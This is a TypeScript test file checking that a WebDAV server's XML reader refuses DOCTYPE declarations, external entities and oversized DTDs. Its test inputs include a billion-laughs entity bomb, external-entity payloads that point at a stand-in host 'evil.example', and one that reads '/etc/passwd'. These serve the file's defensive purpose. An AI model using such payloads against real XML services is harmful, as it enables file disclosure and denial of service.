import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { DavError, type ErrorCode } from '../../core/errors.ts'
import { MAX_DOCTYPE_CHARACTERS } from './doctype.ts'
import { readXml } from './read.ts'

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<lolz>&lol2;</lolz>`

async function* inChunks(text: string, size: number): AsyncGenerator<Uint8Array> {
  const bytes = new TextEncoder().encode(text)
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size)
}

async function refuses(text: string, code: ErrorCode): Promise<void> {
  for (const size of [1, 5, 100_000]) {
    await assert.rejects(
      readXml(inChunks(text, size)),
      (error: unknown) =>
        error instanceof DavError && error.code === code && /DOCTYPE|external/.test(error.message),
      `${text.slice(0, 60)} in chunks of ${size} should be refused as ${code}`,
    )
  }
}

/** An endless body; counts what was pulled. */
function endlessAfter(start: string): { body: AsyncIterable<Uint8Array>; pulled: () => number } {
  let pulled = 0
  async function* body(): AsyncGenerator<Uint8Array> {
    yield new TextEncoder().encode(start)
    for (;;) {
      pulled += 1
      yield new TextEncoder().encode('<!ENTITY a "b">'.repeat(10))
    }
  }
  return { body: body(), pulled: () => pulled }
}

describe('a DOCTYPE', () => {
  const external = [
    '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
    '<!DOCTYPE a PUBLIC "-//A//B" "a.dtd"><a/>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    `<?xml version="1.0"?><!-- c --><!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/'> %x;]><a/>`,
  ]
  for (const text of external) {
    it(`is refused as external: ${text} (XML-10)`, async () => {
      await refuses(text, 'external-entity')
    })
  }

  const internal = [
    '<!DOCTYPE a><a/>',
    '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY x "SYSTEM">]><a>&x;</a>',
    '\n <?p?> <!-- <a> --> <!DOCTYPE a []><a/>',
    '<!DOCTYPE a [',
    '<!DOCTYPE',
    BILLION_LAUGHS,
  ]
  for (const text of internal) {
    it(`is refused: ${text.slice(0, 60)} (XML-11)`, async () => {
      await refuses(text, 'bad-request')
    })
  }

  it('is refused where it names something external, not where it ends (XML-10)', async () => {
    const { body, pulled } = endlessAfter('<!DOCTYPE a SYSTEM "x" [')

    await assert.rejects(
      readXml(body),
      (error: unknown) => error instanceof DavError && error.code === 'external-entity',
    )
    assert.equal(pulled(), 0)
  })

  it('is not kept in memory when it is long (XML-11)', async () => {
    const { body, pulled } = endlessAfter('<!DOCTYPE a [')

    await assert.rejects(
      readXml(body),
      (error: unknown) => error instanceof DavError && error.code === 'bad-request',
    )
    assert.equal(pulled(), Math.ceil((MAX_DOCTYPE_CHARACTERS - 3) / 150))
  })

  it('may be written about in comments and in values (XML-13, XML-14)', async () => {
    for (const size of [1, 5, 1000]) {
      const root = await readXml(
        inChunks('<!-- <!DOCTYPE a> --><?p <!DOCTYPE a>?><a><![CDATA[<!DOCTYPE html>]]></a>', size),
      )

      assert.deepEqual(root?.children, ['<!DOCTYPE html>'])
    }
  })
})
